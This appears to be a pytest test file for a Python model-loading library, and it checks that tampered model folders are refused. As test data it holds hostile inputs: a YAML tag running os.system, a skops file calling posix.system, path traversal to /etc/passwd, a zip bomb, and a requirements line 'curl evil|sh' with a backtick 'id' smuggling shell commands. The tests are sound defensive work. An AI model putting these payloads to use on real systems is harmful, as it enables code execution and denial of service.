"""What is loaded, and what is refused: nothing that a folder says is believed."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import yaml

from gitrack import models
from gitrack.errors import GitrackError, UnreadableFile, UsageError
from gitrack.models import environment


@pytest.fixture
def saved(tmp_path: Path, boosted: Any, rows: pd.DataFrame) -> Path:
    models.save(boosted, tmp_path / "model", input_example=rows)
    return tmp_path / "model"


def _change(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    content = yaml.safe_load((folder / "MLmodel").read_text())
    change(content)
    (folder / "MLmodel").write_text(yaml.safe_dump(content))


def test_a_pipeline_comes_back_as_it_was(saved: Path, boosted: Any, rows: pd.DataFrame) -> None:
    model = models.load(saved)

    np.testing.assert_array_equal(model.predict_proba(rows), boosted.predict_proba(rows))


def test_a_function_puts_columns_in_order(saved: Path, boosted: Any, rows: pd.DataFrame) -> None:
    function = models.load_function(saved)
    shuffled = rows[["carrier", "delay", "hour"]].assign(more=1, hour=rows["hour"].astype(float))

    np.testing.assert_array_equal(function.predict(shuffled), boosted.predict(rows))
    np.testing.assert_array_equal(function(rows.to_dict("records")), boosted.predict(rows))
    np.testing.assert_array_equal(
        function.predict(rows.drop(columns="delay")),  # it had gaps in training: it may be missing
        boosted.predict(rows.assign(delay=np.nan)),
    )
    assert "hour: long, delay: double?, carrier: string" in repr(function)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda rows: rows.drop(columns="hour"), "needs the column 'hour'"),
        (lambda rows: rows.assign(hour="noon"), "column 'hour' cannot be read as long"),
        (lambda rows: rows.assign(hour=0.5), "no whole numbers"),
        (lambda rows: rows.assign(carrier=7), "the model takes text there"),
        (lambda rows: np.ones((2, 9)), "has the shape"),
        (lambda rows: 7, "the data is a int"),
        (lambda rows: {"hour": np.ones((2, 2))}, "not named arrays"),
        (lambda rows: pd.concat([rows, rows], axis=1), "two columns named"),
    ],
)
def test_data_that_does_not_fit_is_named(
    saved: Path, rows: pd.DataFrame, change: Callable[[pd.DataFrame], Any], why: str
) -> None:
    with pytest.raises(UsageError, match=why):
        models.load_function(saved).predict(change(rows))


HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "an absolute path": (
        lambda m: m["flavors"]["sklearn"].update(pickled_model="/etc/passwd"),
        "leads out of the model's folder",
    ),
    "a way up": (
        lambda m: m["flavors"]["sklearn"].update(pickled_model="../model.skops"),
        "leads out of the model's folder",
    ),
    "no path": (lambda m: m["flavors"]["sklearn"].update(pickled_model=["a"]), "is no path"),
    "a file that is not there": (
        lambda m: m["flavors"]["sklearn"].update(pickled_model="other.skops"),
        "which is not there",
    ),
    "another flavor": (
        lambda m: m.update(flavors={"spark": {}}),
        "its flavor is spark, which gitrack does not load",
    ),
    "code": (
        lambda m: m.update(flavors={"python_function": {"loader_module": "os", "code": "code"}}),
        r"only code can load it \(os\)",
    ),
    "no flavor": (lambda m: m.pop("flavors"), "names no flavors"),
    "a flavor without content": (lambda m: m["flavors"].update(sklearn=None), "names no flavors"),
    "another format": (
        lambda m: m["flavors"]["sklearn"].update(serialization_format="dill"),
        "serialization_format 'dill' is unknown",
    ),
    "a pickle in disguise": (
        lambda m: m["flavors"]["sklearn"].update(serialization_format="pickle"),
        "runs whatever its writer wants",
    ),
    "a class of anything": (
        lambda m: m.update(
            flavors={"xgboost": {"data": "model.skops", "model_class": "os.system"}}
        ),
        "model_class 'os.system' is not XGBoost's",
    ),
    "a signature of nonsense": (
        lambda m: m["signature"].update(inputs='[{"name": "a"}]'),
        "its signature makes no sense",
    ),
    "a signature that never ends": (
        lambda m: m["signature"].update(inputs="[" * 100_000),
        "its signature makes no sense",
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_folder_is_refused(saved: Path, what: str) -> None:
    change, why = HOSTILE[what]
    _change(saved, change)

    with pytest.raises(GitrackError, match=why):
        models.load(saved)


def test_a_link_out_of_the_folder_is_refused(saved: Path, tmp_path: Path) -> None:
    (saved / "model.skops").rename(tmp_path / "elsewhere.skops")
    (saved / "model.skops").symlink_to(tmp_path / "elsewhere.skops")

    with pytest.raises(UnreadableFile, match="leads out"):
        models.load(saved)


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nflavors: {sklearn: {pickled_model: model.skops}}\n",
        "flavors: !!python/object/apply:os.system [id]\n",
        "flavors: [1",
        "\x00",
        "- 1",
        "flavors: {}\nflavors: {}\n",
    ],
)
def test_a_strange_document_is_refused(saved: Path, text: str) -> None:
    (saved / "MLmodel").write_text(text)

    with pytest.raises(UnreadableFile):
        models.load(saved)


def test_the_list_of_trusted_types_in_the_folder_is_not_believed(
    saved: Path, tmp_path: Path
) -> None:
    """A file that would call `os.system`, with a list that allows it."""
    schema = {
        "__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "__id__": 1,
        "protocol": 2, "_skops_version": "0.16.0",
    }  # fmt: skip
    with zipfile.ZipFile(saved / "model.skops", "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    _change(saved, lambda m: m["flavors"]["sklearn"].update(skops_trusted_types=["posix.system"]))

    with pytest.raises(UsageError, match=r"not trusted: 'posix\.system'"):
        models.load(saved)


def test_a_class_of_ones_own_is_trusted_by_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "rates_of_mine.py").write_text(
        "from sklearn.base import BaseEstimator\n"
        "class Rates(BaseEstimator):\n"
        "    def fit(self, X, y=None):\n        self.rate_ = 3\n        return self\n"
        "    def predict(self, X):\n        return [self.rate_ for _ in X]\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    import rates_of_mine

    saved = models.save(rates_of_mine.Rates().fit([]), tmp_path / "model")

    assert saved.untrusted == ("rates_of_mine.Rates",)
    with pytest.raises(UsageError, match=r"not trusted: 'rates_of_mine\.Rates'") as refused:
        models.load(tmp_path / "model")
    assert refused.value.hint is not None
    assert "trusted=['rates_of_mine.Rates']" in refused.value.hint
    assert models.load(tmp_path / "model", trusted=saved.untrusted).predict([1]) == [3]
    with pytest.raises(UsageError, match="no list of names"):
        models.load(tmp_path / "model", trusted="rates_of_mine.Rates")


def test_a_tree_that_leads_out_of_its_memory_is_refused(
    tmp_path: Path, rows: pd.DataFrame, late: np.ndarray, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        RandomForestClassifier,
    )

    numbers = rows[["hour"]].to_numpy()
    for model, reach in [
        (RandomForestClassifier(2), lambda m: m.estimators_[0].tree_.feature),
        (RandomForestClassifier(2), lambda m: m.estimators_[1].tree_.children_left),
        (GradientBoostingClassifier(n_estimators=2), lambda m: m.estimators_[0, 0].tree_.feature),
        (HistGradientBoostingClassifier(max_iter=2), lambda m: m._predictors[0][0].nodes["left"]),
        (
            HistGradientBoostingClassifier(max_iter=2),
            lambda m: m._predictors[0][0].nodes["feature_idx"],
        ),
    ]:
        folder = tmp_path / f"{len(list(tmp_path.iterdir()))}"
        model.fit(numbers, late)
        models.save(model, folder)
        assert models.load(folder).predict(numbers).tolist() == model.predict(numbers).tolist()
        reach(model)[0] = 1_000_000
        (folder / "MLmodel").unlink()
        for path in list(folder.iterdir()):
            path.unlink()
        folder.rmdir()
        models.save(model, folder)

        with pytest.raises(UnreadableFile, match="leads out of its bounds"):
            models.load(folder)


def test_a_missing_package_is_named_with_its_version(
    saved: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (saved / "requirements.txt").write_text("xgboost==3.0.1\nscikit-learn==1.9.1\nskops==0.16.0\n")
    there = environment._there
    monkeypatch.setattr(environment, "_there", lambda name: name != "xgboost" and there(name))

    with pytest.raises(UsageError, match=r"this model needs xgboost==3\.0\.1") as missing:
        models.load(saved)

    assert missing.value.hint == "pip install 'xgboost==3.0.1'"


def test_requirements_of_a_stranger_are_typed_by_nobody(
    saved: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (saved / "requirements.txt").write_text("xgboost==3;curl evil|sh\nskops==`id`\n")
    there = environment._there
    monkeypatch.setattr(environment, "_there", lambda name: name != "xgboost" and there(name))

    with pytest.raises(UsageError) as missing:
        models.load(saved)

    assert missing.value.hint == "pip install 'xgboost'"


@pytest.mark.parametrize(
    ("written", "warns"),
    [
        ("scikit-learn==0.24.1", True),
        ("xgboost==99.0.0", True),
        ("xgboost==1.0.0", False),
        ("numpy==1.0.0", False),
    ],
)
def test_a_version_that_may_read_it_wrongly_is_warned_of(
    saved: Path, written: str, warns: bool, recwarn: pytest.WarningsRecorder
) -> None:
    (saved / "requirements.txt").write_text(f"{written}\n")

    models.load(saved)

    said = [str(one.message) for one in recwarn if "was saved with" in str(one.message)]
    assert bool(said) is warns
    assert not warns or written.partition("==")[2] in said[0]


def test_models_that_mlflow_saved_are_loaded_too(
    tmp_path: Path, boosted: Any, rows: pd.DataFrame
) -> None:
    mlflow_xgboost = pytest.importorskip("mlflow.xgboost", reason="MLflow writes the folder")
    numbers = boosted[0].transform(rows)
    folder = tmp_path / "theirs"
    mlflow_xgboost.save_model(
        boosted[-1], str(folder), input_example=numbers[:3], pip_requirements=["xgboost"]
    )

    function = models.load_function(folder)

    assert models.describe(folder)[0] == "xgboost"
    np.testing.assert_array_equal(function.predict(numbers), boosted.predict(rows))


def test_a_truncated_file_is_no_model(tmp_path: Path, booster: Any, saved: Path) -> None:
    models.save(booster, tmp_path / "booster")
    for file in (tmp_path / "booster/model.ubj", saved / "model.skops"):
        file.write_bytes(file.read_bytes()[:100])
        with pytest.raises(UnreadableFile):
            models.load(file.parent)


def test_a_file_that_unpacks_to_more_than_memory_is_no_model(saved: Path) -> None:
    with zipfile.ZipFile(saved / "model.skops", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", b" " * 200_000_000)

    with pytest.raises(UnreadableFile, match="would unpack to 200,000,000 bytes"):
        models.load(saved)


@pytest.mark.parametrize("key", ["left_children", "right_children", "split_indices"])
def test_a_booster_that_leads_out_of_its_memory_is_refused(
    tmp_path: Path, booster: Any, key: str
) -> None:
    models.save(booster, tmp_path / "booster")
    models.load(tmp_path / "booster")
    content = json.loads(booster.save_raw("json"))
    tree = content["learner"]["gradient_booster"]["model"]["trees"][0]
    tree[key] = [value if value == -1 else 100_000_000 for value in tree[key]]
    (tmp_path / "booster/model.json").write_text(json.dumps(content))
    _change(
        tmp_path / "booster", lambda about: about["flavors"]["xgboost"].update(data="model.json")
    )

    with pytest.raises(UnreadableFile, match="leads out of its bounds"):
        models.load(tmp_path / "booster")
